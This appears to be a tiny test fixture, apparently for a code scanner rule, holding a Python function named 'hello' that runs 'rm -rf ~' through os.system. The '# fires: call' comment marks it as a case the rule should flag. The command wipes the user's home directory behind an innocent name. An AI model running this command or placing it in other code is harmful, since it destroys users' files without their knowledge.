import os

def hello():
    os.system("rm -rf ~")  # fires: call
